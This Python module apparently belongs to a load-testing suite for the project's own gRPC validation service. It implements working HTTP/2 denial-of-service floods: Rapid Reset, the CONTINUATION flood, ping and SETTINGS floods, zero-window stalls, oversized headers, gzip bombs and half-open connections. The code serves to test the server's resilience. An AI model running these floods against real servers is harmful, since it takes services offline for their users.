"""Floods of HTTP/2 itself: frames that are allowed and cost their sender nothing, and some that are not.

A server may close the connection of such a client; the client then connects again, at most ten times a second. So each
outcome is either an attack that the server bore, or a connection that it closed.
"""

import asyncio
import gzip
import struct
from collections.abc import Awaitable, Callable
from typing import Final

from load.floods.attack import Attack, forever
from load.floods.http2 import (
    CONTINUATION,
    END_HEADERS,
    END_STREAM,
    FRAME_MAX,
    HEADERS,
    INITIAL_WINDOW_SIZE,
    PING,
    Connection,
    Frame,
    call,
    call_headers,
    connect,
    frame,
    header_block,
    message,
    rst_stream,
    settings,
)

CLIENTS: Final = 10
"""Connections of an attacker."""
AGAIN_SECONDS: Final = 0.1
BURST: Final = 50
"""Frames that are written before the attacker yields to the loop."""
HEALTH: Final = "/grpc.health.v1.Health/Check"
LIST: Final = "/rummikub.v1.ValidationService/ListMessages"
EMPTY_REQUEST: Final = message(b"")
BOMB_BYTES: Final = 8_000_000
"""What a compressed request expands to; it takes 8 KB."""
HEADER_BYTES: Final = 400_000
"""More than a server takes: its limit is 8 KB of metadata (RUMMIKUB_MAX_METADATA_BYTES)."""
CONTINUATIONS: Final = 2_000

Work = Callable[[Connection, Attack], Awaitable[None]]


async def _each(
    attack: Attack, work: Work, make: Callable[[Callable[[Frame], None]], Connection] | None = None
) -> None:
    """Lets each of some connections repeat some work; one that was closed is opened again."""

    async def one(_number: int) -> None:
        def make_one() -> Connection:
            return make(lambda _: None) if make else Connection()

        try:
            connection = await connect(attack.target, make_one)
        except OSError:
            attack.ends["not connected"] += 1
            await asyncio.sleep(AGAIN_SECONDS)
            return
        try:
            while connection.is_open:
                await work(connection, attack)
                await connection.drained()
        except ConnectionError:
            pass
        finally:
            connection.close()
        attack.ends["closed by the server"] += 1
        await asyncio.sleep(AGAIN_SECONDS)

    await forever(CLIENTS, one)


async def rapid_reset(attack: Attack) -> None:
    """10 connections open calls and reset each at once (CVE-2023-44487)."""

    async def work(connection: Connection, attack: Attack) -> None:
        parts = []
        for _ in range(BURST):
            stream = connection.take_stream()
            parts.append(call(stream, HEALTH, EMPTY_REQUEST) + rst_stream(stream))
        connection.write(b"".join(parts))
        attack.ends["reset"] += BURST
        await asyncio.sleep(0)

    await _each(attack, work)


async def pings(attack: Attack) -> None:
    """10 connections send pings."""

    async def work(connection: Connection, attack: Attack) -> None:
        connection.write(frame(PING, 0, 0, bytes(8)) * BURST)
        attack.ends["ping"] += BURST
        await asyncio.sleep(0)

    await _each(attack, work)


async def settings_flood(attack: Attack) -> None:
    """10 connections send settings, each of which asks for an answer."""

    async def work(connection: Connection, attack: Attack) -> None:
        connection.write(settings(**{f"s{INITIAL_WINDOW_SIZE}": 65_535}) * BURST)
        attack.ends["settings"] += BURST
        await asyncio.sleep(0)

    await _each(attack, work)


async def zero_window(attack: Attack) -> None:
    """10 connections with a window of 0 make calls whose answers they do not take, up to 100 on each."""

    async def work(connection: Connection, attack: Attack) -> None:
        for _ in range(100):
            connection.write(call(connection.take_stream(), LIST, EMPTY_REQUEST))
            attack.ends["call without window"] += 1
            await asyncio.sleep(0.01)
        await asyncio.sleep(5)
        connection.close()

    await _each(attack, work, lambda on_frame: Connection(on_frame, window=0))


async def huge_headers(attack: Attack) -> None:
    """10 connections make calls with 400 KB of metadata, in as many frames as that takes."""
    block = header_block([*call_headers(HEALTH), *((f"x-{number}", "x" * 4_000) for number in range(100))])

    async def work(connection: Connection, attack: Attack) -> None:
        connection.write(_in_frames(connection.take_stream(), block))
        attack.ends["huge headers"] += 1
        await asyncio.sleep(0.01)

    await _each(attack, work)


def _in_frames(stream: int, block: bytes) -> bytes:
    """Returns a header block as HEADERS and CONTINUATION frames."""
    parts = [block[start : start + FRAME_MAX] for start in range(0, len(block), FRAME_MAX)]
    kinds = [HEADERS] + [CONTINUATION] * (len(parts) - 1)
    last = len(parts) - 1
    return b"".join(
        frame(kind, (END_STREAM if not place else 0) | (END_HEADERS if place == last else 0), stream, part)
        for place, (kind, part) in enumerate(zip(kinds, parts, strict=True))
    )


async def continuations(attack: Attack) -> None:
    """10 connections send header blocks that never end (CVE-2024-27316)."""

    async def work(connection: Connection, attack: Attack) -> None:
        stream = connection.take_stream()
        connection.write(frame(HEADERS, END_STREAM, stream, header_block(call_headers(HEALTH))))
        for number in range(CONTINUATIONS):
            connection.write(frame(CONTINUATION, 0, stream, header_block([(f"x-{number}", "y" * 1_000)])))
            attack.ends["continuation"] += 1
            if number % BURST == 0:
                await asyncio.sleep(0)
                await connection.drained()

    await _each(attack, work)


async def bombs(attack: Attack) -> None:
    """10 connections send requests of 8 KB that gzip expands to 8 MB."""
    packed = gzip.compress(bytes(BOMB_BYTES))
    body = struct.pack(">BI", 1, len(packed)) + packed
    metadata = [("grpc-encoding", "gzip")]

    async def work(connection: Connection, attack: Attack) -> None:
        await connection.has_window(len(body))
        connection.write(call(connection.take_stream(), LIST, body, metadata))
        attack.ends["bomb"] += 1
        await asyncio.sleep(0.01)

    await _each(attack, work)


async def half_open_connections(attack: Attack) -> None:
    """Connections that send the preface and half of a frame, 20 a second, and are then held, up to 500."""
    held: list[Connection] = []
    try:
        await _hold(attack, held)
    finally:
        for connection in held:
            connection.close()


async def _hold(attack: Attack, held: list[Connection]) -> None:
    while True:
        try:
            held.append(
                await connect(attack.target, lambda: Connection(opening=b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0"))
            )
            attack.ends["held"] += 1
        except OSError:
            attack.ends["not connected"] += 1
        if len(held) > 500:
            held.pop(0).close()
        await asyncio.sleep(0.05)
